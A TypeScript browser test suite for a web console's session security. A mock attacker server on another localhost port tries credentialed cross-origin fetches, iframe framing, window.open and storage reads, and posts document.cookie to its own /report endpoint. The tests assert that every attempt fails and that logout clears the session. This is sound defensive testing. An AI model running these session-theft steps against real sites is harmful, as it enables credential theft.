import { once } from 'node:events'
import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, it, onTestFinished } from 'vitest'
import { ask } from '../hosts/web/web-client.ts'
import { openConsole } from './console.ts'
import { screen } from './screen.ts'

/** A server of another user of this machine, whose page tries whatever a page may. */
async function startAttacker(consolePort: number) {
  const received: { readonly url: string; readonly headers: IncomingHttpHeaders; readonly body: string }[] =
    []
  const server = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request.setEncoding('utf8')) body += chunk
    received.push({ url: request.url ?? '', headers: request.headers, body })
    response.setHeader('Content-Type', 'text/html')
    response.end('<!doctype html><title>Another server</title>')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  return { received, address: `http://127.0.0.1:${port}`, target: `http://127.0.0.1:${consolePort}` }
}

it('the session of the console reaches no page and no server of another port of this machine', async () => {
  const { page } = await openConsole('web')
  await screen.rows(page).first().waitFor()
  const port = Number(new URL(page.url()).port)
  const { received, address, target } = await startAttacker(port)
  const attack = await page.context().newPage()
  await attack.goto(`${address}/linked`)
  // From one of its pages to the next, a browser calls it the same origin, and sends every cookie.
  await Promise.all([
    attack.waitForURL('**/own'),
    attack.evaluate(() => {
      location.href = '/own'
    }),
  ])
  const stolen = await attack.evaluate(async console => {
    const tries = await Promise.allSettled([
      fetch(`${console}/events`, { credentials: 'include' }),
      fetch(`${console}/session`, { method: 'POST', credentials: 'include', body: '{}' }),
      fetch(`${console}/events`, { headers: { authorization: 'Bearer x' } }),
    ])
    const frame = document.createElement('iframe')
    const framed = new Promise(resolve => frame.addEventListener('load', resolve))
    frame.src = console
    document.body.append(frame)
    await framed
    const opened = window.open(console)
    return {
      answered: tries.filter(({ status }) => status === 'fulfilled').length,
      framed: frame.contentDocument !== null,
      kept: { ...localStorage, ...sessionStorage },
      opened: opened?.length ?? 0,
      cookies: document.cookie,
    }
  }, target)
  expect(stolen).toEqual({ answered: 0, framed: false, kept: {}, opened: 0, cookies: '' })
  await attack.evaluate(() => fetch('/report', { method: 'POST', body: document.cookie }))

  expect(received.map(({ url }) => url)).toEqual(expect.arrayContaining(['/linked', '/own', '/report']))
  for (const { headers } of received) {
    const { cookie, authorization } = headers
    const frame = {
      method: 'POST',
      path: '/frames?screen=any',
      headers: { cookie, authorization, Origin: target, 'Content-Type': 'application/json' },
      body: '{"type":"close","id":1}',
    }
    expect(await ask(port, frame)).toMatchObject({ status: 401 })
  }
  const secret = await page.evaluate(() => localStorage.getItem('lockkeeper.session'))
  expect(secret).toMatch(/^[\w-]{43}$/)
  expect(JSON.stringify(received)).not.toContain(secret)
})

it('the operator ends the session in all pages, and nothing of it stays on the screen', async () => {
  const { page, problems } = await openConsole('web')
  await screen.rows(page).first().waitFor()
  const other = await page.context().newPage()
  await other.goto(new URL('/', page.url()).href)
  await screen.rows(other).first().waitFor()
  const port = Number(new URL(page.url()).port)
  const secret = await page.evaluate(() => localStorage.getItem('lockkeeper.session'))
  await page.getByRole('button', { name: 'End session' }).click()
  for (const each of [page, other]) {
    await each.getByRole('heading', { name: 'No session' }).waitFor()
    expect(await screen.rows(each).count()).toBe(0)
  }
  const headers = { authorization: `Bearer ${secret}` }
  expect(await ask(port, { path: '/events', headers })).toMatchObject({ status: 401 })
  expect(await page.evaluate(() => localStorage.getItem('lockkeeper.session'))).toBeNull()
  expect(problems.filter(problem => !problem.includes('401'))).toEqual([])
})
